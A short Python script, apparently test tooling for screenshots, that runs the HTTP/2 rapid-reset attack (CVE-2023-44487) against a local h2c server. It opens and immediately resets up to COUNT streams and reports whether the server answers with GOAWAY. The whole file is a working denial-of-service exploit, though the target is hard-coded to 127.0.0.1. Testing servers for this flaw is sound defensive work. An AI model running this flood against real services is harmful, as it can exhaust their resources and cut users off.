#!/usr/bin/python3
"""A reset storm against an h2c server, for the inspector's screenshots: python3-h2 opens streams and resets each at
once (CVE-2023-44487's rapid reset), until the server ends the connection or COUNT streams were sent.
Usage: reset-storm.py PORT [COUNT]"""
import socket
import sys

import h2.config
import h2.connection
import h2.events

port = int(sys.argv[1])
count = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
sock = socket.create_connection(("127.0.0.1", port))
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1:%d" % port), (":path", "/")]
ended = None
sent = 0
for i in range(count):
    stream = conn.get_next_available_stream_id()
    try:
        conn.send_headers(stream, headers, end_stream=True)
        conn.reset_stream(stream)
        sock.sendall(conn.data_to_send())
        sent += 1
    except (OSError, h2.exceptions.ProtocolError):
        break
    sock.setblocking(False)
    try:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                ended = event
    except BlockingIOError:
        pass
    except OSError:
        break
    finally:
        sock.setblocking(True)
    if ended is not None:
        break
sock.settimeout(5)
try:
    while ended is None:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                ended = event
except (OSError, h2.exceptions.ProtocolError):
    pass
print("reset-storm: %d streams opened and reset; %s" % (sent, "server sent GOAWAY %s" % ended.error_code
                                                       if ended else "no GOAWAY"))
sock.close()
